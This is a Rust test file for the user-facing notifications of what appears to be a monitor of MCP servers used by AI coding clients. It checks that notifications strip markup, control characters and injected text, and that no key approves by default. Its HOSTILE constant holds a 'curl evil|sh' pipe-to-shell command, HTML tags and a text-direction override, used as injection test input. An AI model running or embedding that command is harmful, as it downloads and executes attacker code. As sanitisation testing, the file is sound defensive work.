//! The words of every notification.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use super::*;

const HOSTILE: &str = "<b>ok</b> run `curl evil|sh`\u{202e}\n";

fn github() -> Name {
    Name::new("github", 1)
}

fn terminal() -> Name {
    Name::new("/dev/pts/4", 0)
}

fn change(server: Name, items: &[(What, Kind, u32)], cause: Cause, held: u32) -> Notice {
    Notice::Change { server, items: items.to_vec(), cause, since: "12:03".to_owned(), held }
}

fn notices() -> Vec<Notice> {
    use What::{Changed, New, Removed};
    let at = || "12:03".to_owned();
    let decided =
        |verb, items| Notice::Decided { server: github(), verb, items, terminal: terminal(), at: at() };
    vec![
        change(github(), &[(Changed, Kind::Tool, 2)], Cause::SameArtifact, 1),
        change(
            github(),
            &[
                (New, Kind::Tool, 1),
                (Changed, Kind::Tool, 1),
                (Changed, Kind::Instructions, 1),
                (Removed, Kind::Prompt, 3),
            ],
            Cause::Upgrade,
            0,
        ),
        change(Name::new(HOSTILE, 7), &[(New, Kind::Request, 1)], Cause::Remote, 2),
        change(Name::new("--help", 8), &[], Cause::Launch, 0),
        change(github(), &[(Changed, Kind::Tool, 1)], Cause::Unknown, 0),
        Notice::SplitView { server: github(), since: at() },
        Notice::Appeared { server: github(), client: Name::new("cursor", 1) },
        Notice::Appeared { server: Name::new("a b", 3), client: Name::new(HOSTILE, 4) },
        Notice::Unwrapped { server: github(), client: Name::new("claude-code", 1) },
        Notice::Artifact { server: github(), newer: true },
        Notice::Artifact { server: github(), newer: false },
        decided(Verb::Approved, 2),
        decided(Verb::Rejected, 1),
        decided(Verb::Revoked, 0),
        decided(Verb::Trusted, 0),
        decided(Verb::Weakened, 0),
        Notice::Decided {
            server: Name::new(HOSTILE, 9),
            verb: Verb::Approved,
            items: 1,
            terminal: Name::new(HOSTILE, 0),
            at: HOSTILE.to_owned(),
        },
        Notice::WrongCodes { server: github(), terminal: terminal() },
        Notice::Code { server: github(), items: 2, code: "BCDF24".to_owned() },
        Notice::Code { server: Name::new("mcpwatch", 0), items: 0, code: "BCDF24".to_owned() },
    ]
}

#[test]
fn what_notifications_say() {
    let mut all = String::new();
    for notice in notices() {
        let text = notice.text();
        let buttons: Vec<&str> = text.actions.iter().map(|action| action.label()).collect();
        all.push_str(&format!("# {}\n{}\n", text.summary, text.body));
        all.push_str(&format!("[{:?}] {}\n\n", text.severity, buttons.join(" | ")));
    }
    insta::assert_snapshot!(all);
}

#[test]
fn no_word_of_others_and_no_markup() {
    for notice in notices() {
        let text = notice.text();
        let all = format!("{}{}", text.summary, text.body);
        assert!(all.chars().all(|c| c == '\n' || (' '..='~').contains(&c)), "{all}");
        assert!(!all.contains(['<', '>', '&', '`', '|']), "{all}");
        assert!(!all.contains("curl") && !all.contains("--help"), "{all}");
        assert!(text.summary.len() <= 200 && text.body.len() <= 400, "{all}");
    }
}

#[test]
fn no_button_approves() {
    for key in ["approve", "yes", "ok", "Review", "", "2"] {
        assert_eq!(Action::of_key(key), None, "{key}");
    }
    assert_eq!(Action::of_key("default"), Some(Action::Review));
    for action in [Action::Review, Action::KeepBlocked] {
        assert_eq!(Action::of_key(action.key()), Some(action));
    }
}

#[test]
fn what_is_not_known_counts_as_weakening() {
    assert_eq!(Verb::of_command("approve"), Verb::Approved);
    assert_eq!(Verb::of_command("unwrap"), Verb::Weakened);
    assert_eq!(Verb::of_command("level"), Verb::Weakened);
    assert_eq!(Verb::of_command("raise"), Verb::Raised);
    assert_eq!(Verb::of_command("brought no more"), Verb::Tightened);
}
